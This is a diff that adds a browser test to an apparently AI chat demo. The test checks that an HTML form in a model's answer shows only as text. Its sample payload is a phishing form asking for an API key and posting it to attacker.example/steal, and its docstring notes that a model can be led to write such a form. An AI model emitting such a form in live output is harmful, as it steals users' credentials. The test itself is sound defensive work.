@@ -331,6 +331,21 @@ def test_the_page_shows_and_copies_exactly_what_the_model_wrote(demo: Served, pa
     assert copied(page, answer) == tasks
 
 
+def test_a_form_in_an_answer_is_not_rendered(demo: Served, page: Any) -> None:
+    """A model can be led to write a form that asks for the API key and posts it elsewhere: it shows as text."""
+    phishing = ('Your session expired. <form action="https://attacker.example/steal" method="post">'
+                '<input name="key" placeholder="API key"><textarea name="more"></textarea><select name="s"></select>'
+                '<button type="submit">Sign in</button></form>')
+    page.goto(demo.url + "/")
+    answer_with(page, phishing)
+    answer = ask(page, "Hello")
+    finished(answer)
+    markdown = answer.locator(".markdown")
+    assert markdown.locator("form, input, textarea, select, button").count() == 0
+    assert page.locator("form[action]").count() == 0
+    assert "Your session expired." in markdown.inner_text()
+
+
 def test_a_pasted_picture_is_described(demo: Served, page: Any, screenshots: pathlib.Path) -> None:
     page.goto(demo.url + "/")
     settings(page, temperature="0", reasoning="none")
